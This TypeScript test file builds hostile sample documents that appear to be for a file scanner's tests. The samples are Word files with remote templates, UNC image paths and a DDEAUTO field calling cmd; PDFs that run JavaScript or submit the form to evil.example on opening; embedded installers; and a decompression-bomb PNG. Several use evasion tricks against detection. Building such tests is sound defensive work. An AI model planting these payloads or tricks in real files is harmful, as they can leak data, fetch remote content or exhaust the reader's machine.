import { deflateSync } from "node:zlib";
import type { FileProblem } from "../../../src/platform/files/content/bad-file-error";
import { buildPngChunk } from "../../../src/platform/files/content/png-chunks";
import type { FileKind } from "../../../src/platform/files/file-kinds";
import {
  BEGIN,
  code,
  END,
  FETCH,
  inSettings,
  OFFICE,
  relations,
  template,
  typesWith,
  WORD,
  withFields,
  withPart,
} from "./docx-samples";
import { doc, docx, pdf, readPackedObjects } from "./sample-files";

function hugePng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header[8] = 1;
  const pixels = deflateSync(Buffer.alloc(30_000 * (1 + 30_000 / 8)));
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    buildPngChunk("IHDR", header),
    buildPngChunk("IDAT", pixels),
    buildPngChunk("IEND", Buffer.alloc(0)),
  ]);
}

export interface HostileDocument {
  title: string;
  kind: FileKind;
  bytes: Buffer;
  problem: FileProblem;
}

const made = (
  title: string,
  kind: FileKind,
  problem: FileProblem,
  bytes: Buffer,
): HostileDocument => ({ title, kind, bytes, problem });

const SHEET = "application/vnd.ms-excel.sheet.macro&#69;nabled.12";
const OLE = "application/vnd.openxmlformats-officedocument.oleObject";
const COMPOUND = doc();

/** Files that would run, fetch or hide something, or cost whoever opens them too much. */
export const HOSTILE_DOCUMENTS: HostileDocument[] = [
  made(
    "a template whose address holds a bracket",
    "docx",
    "outsideContent",
    inSettings(template("https://evil.example/a>b.dotm")),
  ),
  made(
    "a template whose mode is spelt with an entity",
    "docx",
    "outsideContent",
    inSettings(template("https://evil.example/a.dotm", "&#69;xternal")),
  ),
  made(
    "a template named in UTF-16",
    "docx",
    "outsideContent",
    inSettings(
      Buffer.from(
        `\ufeff${template("https://evil.example/a.dotm").replace('"1.0"', '"1.0" encoding="UTF-16"')}`,
        "utf16le",
      ),
    ),
  ),
  made(
    "a template beside an attribute that looks like a picture's",
    "docx",
    "unknownContent",
    inSettings(
      template("https://evil.example/a.dotm").replace("Id=", `Note="x/relationships/image'" Id=`),
    ),
  ),
  made(
    "a picture on another machine's share",
    "docx",
    "outsideContent",
    docx({
      "word/_rels/document.xml.rels": relations(
        `Type="${OFFICE}/image" Target="file:///\\\\evil.example\\share\\a.png" TargetMode="External"`,
      ),
    }),
  ),
  made(
    "an object under a picture's name",
    "docx",
    "embeddedContent",
    withPart("word/media/image1.dat", OLE, "oleObject", COMPOUND),
  ),
  made(
    "an embedded workbook with macros",
    "docx",
    "activeContent",
    withPart("word/embeddings/a.xlsm", SHEET, "package", "PK"),
  ),
  made(
    "an embedded installer",
    "docx",
    "embeddedContent",
    withPart("word/embeddings/a.msi", "application/x-msi", "package", COMPOUND),
  ),
  made(
    "a script among packed objects that do not say so",
    "pdf",
    "activeContent",
    pdf(readPackedObjects("<< /S /JavaScript /JS (x) >>").replace("/Type /ObjStm ", "")),
  ),
  made(
    "a form that sends itself on opening",
    "pdf",
    "activeContent",
    pdf(
      "5 0 obj\n<< /Type /Catalog /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> >>\nendobj\n",
    ),
  ),
  made("a picture of 900 million pixels", "png", "tooManyPixels", hugePng()),
  made(
    "an installer under a picture's name and type",
    "docx",
    "embeddedContent",
    withPart("word/embeddings/a.png", "image/png", "image", COMPOUND),
  ),
  made(
    "a document type with entities",
    "docx",
    "activeContent",
    docx({ "word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
  ),
  made(
    "a field that asks another program",
    "docx",
    "outsideContent",
    withFields(`${BEGIN}${code("DD")}${code("EAUTO c:\\\\cmd")}${END}`),
  ),
  made(
    "a field whose name follows a piece that Word does not know",
    "docx",
    "unknownContent",
    withFields(`${BEGIN}<x:instrText>DATE </x:instrText>${FETCH}${END}`),
  ),
  made(
    "a field whose name follows a piece inside of what Word does not know",
    "docx",
    "outsideContent",
    withFields(`${BEGIN}<x:y>${code("DATE ")}</x:y>${FETCH}${END}`),
  ),
  made(
    "a field that begins in what Word falls back to",
    "docx",
    "unknownContent",
    withFields(`${BEGIN}${code("DATE ")}<x:y>${END}${BEGIN}</x:y>${FETCH}${END}`),
  ),
  made(
    "a field whose name follows a deleted piece",
    "docx",
    "unknownContent",
    withFields(`${BEGIN}<w:del>${code("DATE ")}</w:del>${FETCH}${END}`),
  ),
  made(
    "a field whose name follows an element within its code",
    "docx",
    "unknownContent",
    withFields(`${BEGIN}<w:instrText>DATE<x:y/>${FETCH}</w:instrText>${END}`),
  ),
  made(
    "a simple field with two codes",
    "docx",
    "unknownContent",
    withFields('<w:fldSimple x:instr="DATE" w:instr="INCLUDEPICTURE https://evil.example/a"/>'),
  ),
  made(
    "a query of a database",
    "docx",
    "outsideContent",
    docx({
      "word/settings.xml": `<w:settings xmlns:w="${WORD}"><w:mailMerge><w:query w:val="select"/></w:mailMerge></w:settings>`,
      "[Content_Types].xml": typesWith(
        "word/settings.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
      ),
    }),
  ),
  made(
    "a drawing that fetches a picture",
    "docx",
    "outsideContent",
    withPart(
      "word/media/a.svg",
      "image/svg+xml",
      "image",
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>',
    ),
  ),
  made(
    "an old drawing that fetches a picture",
    "docx",
    "outsideContent",
    docx({ "word/document.xml": '<v:imagedata xmlns:v="v" src="\\\\evil.example\\a.png"/>' }),
  ),
  made(
    "a link into a share",
    "pdf",
    "outsideContent",
    pdf("4 0 obj\n<< /A << /S /URI /URI (file://evil.example/a) >> >>\nendobj\n"),
  ),
  made(
    "a remote document to go to",
    "pdf",
    "outsideContent",
    pdf("4 0 obj\n<< /S /GoToR /F (a.pdf) >>\nendobj\n"),
  ),
  made(
    "an attachment",
    "pdf",
    "embeddedContent",
    pdf("4 0 obj\n<< /Type /Filespec /EF << /F 5 0 R >> >>\nendobj\n"),
  ),
  made(
    "a script inside a text that the table of objects leads to",
    "pdf",
    "activeContent",
    pdf("4 0 obj\n(harmless\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n)\nendobj\n"),
  ),
  made(
    "an entry that stands twice",
    "pdf",
    "damaged",
    pdf("4 0 obj\n<< /S /JavaScript /S /URI >>\nendobj\n"),
  ),
  made(
    "packed objects that are packed otherwise",
    "pdf",
    "unknownContent",
    pdf(readPackedObjects("<<>>").replace("/FlateDecode", "[/ASCIIHexDecode /FlateDecode]")),
  ),
  made("an object under a storage", "doc", "embeddedContent", doc(["\u0001Ole10Native"])),
];
